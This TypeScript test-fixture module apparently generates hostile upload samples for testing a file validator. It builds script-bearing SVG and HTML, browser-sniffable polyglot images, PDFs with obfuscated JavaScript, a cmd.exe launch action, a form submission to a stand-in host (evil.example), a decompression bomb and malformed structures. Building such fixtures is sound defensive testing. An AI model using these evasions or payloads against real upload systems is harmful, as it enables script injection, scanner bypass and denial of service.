/** Makes files that people upload, and files that attack the program that opens them. */
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A picture of one colour, with the place where it was taken. */
export function photo(width = 320, height = 240, background = '#1565c0') {
  return sharp({ create: { width, height, channels: 3, background } }).withExif({
    IFD0: { Artist: 'private-artist' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '12/1 34/1 56/1' },
  })
}

/** A PDF of one page with further objects, each of them whole. */
export function pdf(...objects: (string | Buffer)[]): Buffer {
  const page = [
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n',
  ]
  const all = [...page, ...objects].map((object) => Buffer.from(object))
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    ...all,
    Buffer.from('trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
  ])
}

/** A stream of a PDF with the given entries in its dictionary. */
export function stream(entries: string, content: Buffer | string): Buffer {
  const bytes = Buffer.from(content)
  return Buffer.concat([
    Buffer.from(`9 0 obj\n<< ${entries} /Length ${bytes.length} >>\nstream\r\n`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ])
}

export function deflated(content: Buffer | string, entries = ''): Buffer {
  return stream(`${entries} /Filter /FlateDecode`, deflateSync(content))
}

/** A small PNG that claims to be of this size. */
export function claimingPng(width: number, height: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 2], 8)
  const chunks: [string, Buffer][] = [
    ['IHDR', head],
    ['IDAT', deflateSync(Buffer.alloc(1_000))],
    ['IEND', Buffer.alloc(0)],
  ]
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks.map(chunkOf)])
}

function chunkOf([name, content]: [string, Buffer]): Buffer {
  const body = Buffer.concat([Buffer.from(name), content])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

/** Files of other types, whatever their names and senders say. */
export const foreignFiles: Record<string, Buffer> = {
  'a page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'an SVG with a script': Buffer.from(svg),
  'an SVG after a declaration': Buffer.from(`<?xml version="1.0"?>\n${svg}`),
  'a GIF with a script': Buffer.from('GIF89a/*<svg onload=alert(1)>*/=1;alert(1)'),
  'a program': Buffer.from('MZ\x90\0\x03', 'latin1'),
  'an archive': Buffer.from('PK\x03\x04 not a picture', 'latin1'),
  'a PDF behind another header': Buffer.concat([Buffer.from('<html>\n'), pdf()]),
  'text that names a PNG': Buffer.from('PNG\r\n\x1a\n', 'latin1'),
  'one byte': Buffer.from([0xff]),
}

/** Begins like a picture, and is a page for browsers that guess. */
export const falsePictures: Record<string, Buffer> = {
  'a JPEG that is a page': Buffer.from('\xff\xd8\xff<html><script>alert(1)</script>', 'latin1'),
  'a PNG that is a page': Buffer.from('\x89PNG\r\n\x1a\n<script>alert(1)</script>', 'latin1'),
  'a WebP that is a script': Buffer.from('RIFF=1/*WEBP*/;alert(1)', 'latin1'),
  'a PNG that ends early': claimingPng(100, 100),
}

const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/** PDFs that run scripts, start programs, send data or carry other files. */
export const activePdfs: Record<string, Buffer> = {
  'a script when it opens': pdf(`4 0 obj\n<< /OpenAction ${action} >>\nendobj\n`),
  'a script in an escaped name': pdf(
    `4 0 obj\n${action.replace('/JavaScript', '/J#61va#53cript')}\nendobj\n`,
  ),
  'a script in a stream of objects': pdf(deflated(`4 0 ${action}`, '/Type /ObjStm /N 1 /First 4')),
  'a script in objects without their type': pdf(deflated(`4 0 ${action}`, '/N 1 /First 4')),
  'a script behind a comment': pdf(deflated(`%x\n 4 0 ${action.replace('Java', '#4aava')}`, '/N 1 /First 4')),
  'a script behind many spaces': pdf(deflated(`${' '.repeat(9_000)}4 0 ${action}`, '/N 1 /First 4')),
  'a program to start': pdf('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'),
  'a file inside': pdf('4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'),
  'a form that sends': pdf('4 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'),
  'a form in XML': pdf('4 0 obj\n<< /XFA 5 0 R >>\nendobj\n'),
  'a film': pdf('4 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'),
}

/** PDFs that nobody can look into, or that are something else, too. */
export const brokenPdfs: Record<string, Buffer> = {
  'no end': pdf().subarray(0, 100),
  'a page after its end': Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
  'objects in another coding': pdf(stream('/Type /ObjStm /Filter /ASCIIHexDecode', '3420303C3C')),
  'objects whose object begins on two lines': pdf(
    '5 0\nobj\n<< /Type /ObjStm /Filter /ASCIIHexDecode /Length 10 >>\nstream\n3420303C3C\nendstream\nendobj\n',
  ),
  'objects behind a text that looks like an object': pdf(
    '5 0 obj\n<< /Type /ObjStm /Filter /ASCIIHexDecode /A ( obj) /Length 10 >>\nstream\n3420303C3C\nendstream\nendobj\n',
  ),
  'objects that unpack to much': pdf(deflated(`4 0 ${' '.repeat(40_000_000)}`, '/Type /ObjStm')),
  'objects cut off': pdf(
    stream(
      '/Type /ObjStm /Filter /FlateDecode',
      Buffer.concat([deflateSync('4 0 x').subarray(0, 4), Buffer.alloc(9, 7)]),
    ),
  ),
  'thousands of streams': pdf(Buffer.concat(Array.from({ length: 3_001 }, () => stream('', 'x')))),
}

export const lockedPdf = pdf('4 0 obj\n<< /Encrypt 5 0 R >>\nendobj\n')
